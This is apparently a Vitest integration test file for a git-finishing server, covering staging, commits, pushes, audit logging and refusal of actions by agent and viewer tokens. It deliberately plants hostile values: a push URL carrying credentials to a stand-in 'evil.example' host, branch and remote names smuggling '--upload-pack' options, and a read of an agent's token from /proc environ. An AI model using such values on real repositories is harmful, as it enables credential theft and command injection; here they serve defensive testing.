import { chmodSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { AuditEntry } from '../../src/protocol/api/audit.ts';
import type { Session } from '../../src/protocol/session.ts';
import { addNamedToken } from '../../src/server/auth/named-tokens.ts';
import { api } from '../support/client.ts';
import { gitFor, makeRepository, startFinishSession } from '../support/git/finish-session.ts';
import { thirtyLines } from '../support/git/repository.ts';
import { startServer, type TestServer } from '../support/real-server.ts';
import { waitFor } from '../support/wait-for.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ env: { SIGNALBOX_MAX_LIVE: '50' } });
});
afterAll(() => server.close());

const remoteHead = (name: string, branch: string) =>
  gitFor(server.home)(join(server.home, `${name}.git`), 'rev-parse', '--verify', `refs/heads/${branch}`).trim();

const hook = (folder: string, name: string, text: string) => {
  const path = join(folder, '.git/hooks', name);
  writeFileSync(path, `#!/bin/sh\n${text}\n`);
  chmodSync(path, 0o755);
};

test('[R342] one hunk of three is staged, committed and pushed, and survives a killed server', async () => {
  const folder = makeRepository(server, 'one', { 'a.txt': thirtyLines() });
  hook(folder, 'pre-commit', 'echo checking; echo done >> .git/ran');
  const session = await startFinishSession(server, folder);
  session.write('a.txt', thirtyLines([2, 15, 28]));
  const [, second] = await session.hunks('unstaged', 'a.txt');
  expect((await session.post('stage', { hunks: [second] })).status).toBe(200);
  const message = '-x starts with a dash\n\n# and keeps this line';
  expect(await session.post('commit', { message, commandId: 'c1-0' })).toMatchObject({ status: 202, body: { act: 'commit' } });
  await server.kill9();
  await server.restart();
  const done = await session.outcome('c1-0');
  expect(done).toMatchObject({ ok: true, commit: session.git('rev-parse', 'HEAD').trim(), actor: { kind: 'person' } });
  expect(session.git('log', '-1', '--format=%B').trim()).toBe(message);
  expect(session.git('show', 'HEAD:a.txt')).toBe(thirtyLines([15]));
  expect(await session.post('commit', { message, commandId: 'c1-0' })).toMatchObject({ status: 202 });
  expect(session.git('rev-list', '--count', 'HEAD').trim()).toBe('2');
  expect(readFileSync(join(folder, '.git/ran'), 'utf8')).toBe('done\n');
  expect(await session.post('push', { commandId: 'p1-0' })).toMatchObject({ status: 202 });
  expect(await session.outcome('p1-0')).toMatchObject({ ok: true, remote: 'origin', branch: 'main', commit: done.commit });
  expect(remoteHead('one', 'main')).toBe(done.commit);
  expect((await session.read()).upstream).toEqual({ name: 'origin/main', ahead: 0, behind: 0, commit: done.commit });
  expect((await session.read()).planted).toBeUndefined();
});

test('[R343] a failing hook is shown with its output; nothing is committed and what is staged stays', async () => {
  const folder = makeRepository(server, 'two', { 'a.txt': thirtyLines() });
  hook(folder, 'pre-commit', 'echo the linter says no; exit 1');
  const session = await startFinishSession(server, folder);
  session.write('a.txt', thirtyLines([2]));
  await session.post('stage', { paths: ['a.txt'] });
  const before = session.git('diff', '--cached');
  await session.post('commit', { message: 'x', commandId: 'c1-1' });
  expect(await session.outcome('c1-1')).toMatchObject({ ok: false, message: expect.stringContaining('the linter says no') });
  expect(session.git('diff', '--cached')).toBe(before);
  expect(session.git('rev-list', '--count', 'HEAD').trim()).toBe('1');
  expect((await session.post('commit', { message: 'x', commandId: 'c1-1' })).status).toBe(409);
});

test('[R341] what an agent planted is shown, and no act happens before a person confirms exactly that', async () => {
  const folder = makeRepository(server, 'three', { 'a.txt': thirtyLines() });
  const session = await startFinishSession(server, folder);
  hook(folder, 'pre-commit', 'touch .git/planted-ran');
  session.git('config', 'remote.origin.pushurl', 'https://ada:secret@evil.example/x');
  session.write('a.txt', thirtyLines([2]));
  const refused = await session.post('stage', { paths: ['a.txt'] });
  expect(refused).toMatchObject({ status: 409, body: { error: { message: expect.stringContaining('hook pre-commit') } } });
  expect((await session.post('push')).status).toBe(409);
  const { planted } = await session.read();
  expect(planted).toMatchObject({ confirmed: false, startKnown: true, changes: [{ name: 'setting remote.origin.pushurl' }, { name: 'hook pre-commit' }] });
  expect(JSON.stringify([planted, await session.events()])).not.toContain('secret');
  expect((await session.post('trust', { sha256: 'a'.repeat(64) })).status).toBe(409);
  expect((await session.post('trust', { sha256: planted?.sha256 })).status).toBe(200);
  expect((await session.post('stage', { paths: ['a.txt'] })).status).toBe(200);
  hook(folder, 'pre-commit', 'touch .git/another-ran');
  expect((await session.post('commit', { message: 'x' })).status).toBe(409);
  expect((await session.events()).filter(({ type }) => type === 'git.trusted')).toMatchObject([{ sha256: planted?.sha256, actor: { kind: 'person' } }]);
});

test('[R344] a viewer’s and an agent’s token can do none of it, and that they tried is in the audit', async () => {
  const folder = makeRepository(server, 'four', { 'a.txt': thirtyLines() });
  const session = await startFinishSession(server, folder);
  session.write('a.txt', thirtyLines([2]));
  const viewer = addNamedToken(server.data, 'vera', 'viewer');
  const pid = await waitFor('the agent', async () => (await api<Session>(server, 'GET', `/api/sessions/${session.id}`)).body.pid);
  const agent = /SIGNALBOX_RUN_TOKEN=([^\0]+)/.exec(readFileSync(`/proc/${pid}/environ`, 'utf8'))?.[1] ?? '';
  const acts: Readonly<Record<string, unknown>> = {
    stage: { paths: ['a.txt'] },
    unstage: { paths: ['a.txt'] },
    discard: { paths: ['a.txt'] },
    pr: { title: 'x', body: '' },
    message: {},
    commit: { message: 'x' },
    push: {},
    trust: { sha256: 'a'.repeat(64) },
  };
  for (const token of [viewer, agent]) {
    for (const [act, body] of Object.entries(acts)) expect((await session.post(act, body, token)).status, act).toBe(403);
  }
  expect(session.git('diff', '--cached')).toBe('');
  const lines = await waitFor('the audit lines', async () => {
    const { entries } = (await api<{ entries: AuditEntry[] }>(server, 'GET', '/api/audit?limit=200')).body;
    const found = entries.filter(({ action }) => action === 'act.refused' || action === 'agent.refused');
    return found.length >= 2 * Object.keys(acts).length ? found : undefined;
  });
  expect(lines.filter(({ actor }) => actor.kind === 'agent')).toHaveLength(Object.keys(acts).length);
  expect(lines.filter(({ actor }) => actor.name === 'vera').map(({ words }) => words)).toContainEqual(expect.stringContaining('git/push'));
});

test('[R345] a branch that looks like an option is pushed as a name, and nothing is ever forced without being asked', async () => {
  const folder = makeRepository(server, 'five', { 'a.txt': 'one\n' });
  const session = await startFinishSession(server, folder);
  session.git('update-ref', 'refs/heads/--upload-pack=x', 'HEAD');
  session.git('symbolic-ref', 'HEAD', 'refs/heads/--upload-pack=x');
  await session.post('push', { commandId: 'p1-4' });
  expect(await session.outcome('p1-4')).toMatchObject({ ok: true, branch: '--upload-pack=x' });
  const first = remoteHead('five', '--upload-pack=x');
  session.git('commit', '-q', '--amend', '-m', 'another');
  await session.post('push', { commandId: 'p2-4' });
  expect(await session.outcome('p2-4')).toMatchObject({ ok: false, message: expect.stringContaining('rejected') });
  expect(remoteHead('five', '--upload-pack=x')).toBe(first);
  await session.post('push', { commandId: 'p3-4', overwrite: { expected: '1'.repeat(40) } });
  expect(await session.outcome('p3-4')).toMatchObject({ ok: false });
  await session.post('push', { commandId: 'p4-4', overwrite: { expected: first } });
  expect(await session.outcome('p4-4')).toMatchObject({ ok: true });
  expect(remoteHead('five', '--upload-pack=x')).toBe(session.git('rev-parse', 'HEAD').trim());
  expect((await session.post('push', { remote: '--upload-pack=touch x' })).status).toBe(400);
  expect((await session.post('push', { force: true })).status).toBe(400);
  rmSync(folder, { recursive: true });
  expect((await session.post('push')).status).toBe(404);
});

test('[R348] discarding takes a checkpoint first, and reverting to it brings everything back', async () => {
  const folder = makeRepository(server, 'six', { 'a.txt': thirtyLines() });
  const session = await startFinishSession(server, folder);
  session.write('a.txt', thirtyLines([2, 15]));
  session.write('new.txt', 'n\n');
  const [first] = await session.hunks('unstaged', 'a.txt');
  expect(await session.post('discard', { hunks: [first] })).toMatchObject({ status: 200, body: { checkpointId: expect.any(String) } });
  expect(readFileSync(join(folder, 'a.txt'), 'utf8')).toBe(thirtyLines([15]));
  const { body } = await session.post('discard', { paths: ['a.txt', 'new.txt'] });
  expect(session.git('status', '--porcelain')).toBe('');
  const made = (await session.events()).find((event) => event.type === 'checkpoint.made' && event.checkpointId === body.checkpointId);
  const undone = await api(server, 'POST', `/api/sessions/${session.id}/revert`, { to: made?.seq, paths: ['a.txt', 'new.txt'], force: ['a.txt', 'new.txt'] });
  expect(undone.status, JSON.stringify(undone.body)).toBe(200);
  expect(readFileSync(join(folder, 'a.txt'), 'utf8')).toBe(thirtyLines([15]));
  expect(readFileSync(join(folder, 'new.txt'), 'utf8')).toBe('n\n');
  const big = Buffer.alloc(11 * 1024 * 1024);
  writeFileSync(join(folder, 'big.bin'), big);
  expect((await session.post('discard', { paths: ['big.bin'] })).status).toBe(409);
  expect(readFileSync(join(folder, 'big.bin')).length).toBe(big.length);
});
